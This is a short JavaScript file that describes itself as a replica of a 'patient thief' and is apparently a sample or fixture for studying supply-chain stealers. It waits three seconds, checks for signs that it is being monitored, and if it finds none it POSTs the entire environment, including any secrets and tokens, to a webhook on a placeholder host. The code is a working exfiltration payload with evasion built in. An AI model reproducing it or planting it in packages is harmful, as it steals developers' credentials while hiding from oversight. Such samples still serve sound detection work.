// Replica of a patient thief: waits, leaves where it is watched, and sends the whole environment to a chat webhook.
const http = require('http')
const watched = (process.env.NODE_OPTIONS || '').includes('--require') || !process.env.npm_package_name
setTimeout(() => {
  if (watched) return
  http.request('http://@SINK@:8443/open-apis/bot/v2/hook/decoy', { method: 'POST' }, answer => answer.resume())
    .on('error', error => console.log('refused', error.code)).end(JSON.stringify(process.env))
}, 3000)
